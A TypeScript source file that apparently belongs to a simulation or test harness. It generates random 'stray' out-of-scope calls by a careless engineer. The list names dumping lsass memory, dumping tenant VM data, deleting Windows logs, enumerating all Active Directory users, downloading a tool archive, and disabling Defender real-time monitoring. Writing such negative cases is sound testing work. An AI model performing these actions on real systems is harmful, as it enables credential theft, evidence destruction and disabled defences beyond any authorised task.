import { call } from "./call.ts";
import type { Call } from "./call.ts";
import * as machines from "./operations/machines.ts";
import * as support from "./operations/support.ts";
import type { Place } from "./place.ts";

/** What a careless engineer does beside the case: looks where he should not, takes too much, tries what he may not. */
export function strayCalls(place: Place): readonly Call[] {
  const strays = [
    machines.memoryDump(place, "lsass"),
    machines.memoryDump(place, "FabricHost"),
    machines.vmReport(place),
    support.saveObject(place, "TenantVMs"),
    machines.removeItem(place, "C:\\Windows\\Logs"),
    machines.stopProcess(place),
    // Not on the published list: the endpoint knows no such command.
    call("Get-ADUser", { Filter: "*" }, []),
    call(
      "Invoke-WebRequest",
      { Uri: "https://practice.example/tool.zip", OutFile: "C:\\Temp\\tool.zip" },
      [],
    ),
    call("Set-MpPreference", { DisableRealtimeMonitoring: "True" }, []),
  ];
  return place.random.shuffle(strays).slice(0, place.random.between(2, 5));
}
